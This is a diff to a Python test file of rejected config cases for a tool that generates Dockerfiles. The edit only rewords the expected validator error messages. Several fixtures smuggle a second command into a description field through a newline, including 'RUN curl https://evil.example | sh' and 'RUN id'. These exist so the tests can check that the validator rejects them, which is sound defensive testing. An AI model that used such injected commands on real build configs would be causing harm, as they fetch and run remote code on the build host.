@@ -123,9 +123,9 @@ BAD = [
         ('">=2.15,<2.16"', ""), ("backends.npu.plugin.torch", "torch 2.14.0 is outside the plugin's supported range")),
     # --- values that would inject into a Dockerfile ---
     Bad("newline-injection", (("description: CPU", 'description: "CPU\\nRUN curl https://evil.example | sh"', CPU),),
-        ("RUN curl", ""), ("backends.cpu.description", "newline or control character", "inject")),
+        ("RUN curl", ""), ("backends.cpu.description", "contains a newline (U+000A)", "inject")),
     Bad("newline-injection-block-scalar", (("description: CPU", "description: |\n      CPU\n      RUN id", CPU),),
-        ("description: |", ""), ("backends.cpu.description", "newline or control character")),
+        ("description: |", ""), ("backends.cpu.description", "contains a newline (U+000A)")),
     Bad("control-character", (("description: CPU", 'description: "CPU\\a"', CPU),), ('"CPU\\a"', ""),
         ("backends.cpu.description", "control character")),
     Bad("double-quote-in-label-text", (("vendor: example", "vendor: 'ex\"ample'", ""),), ("vendor:", ""),
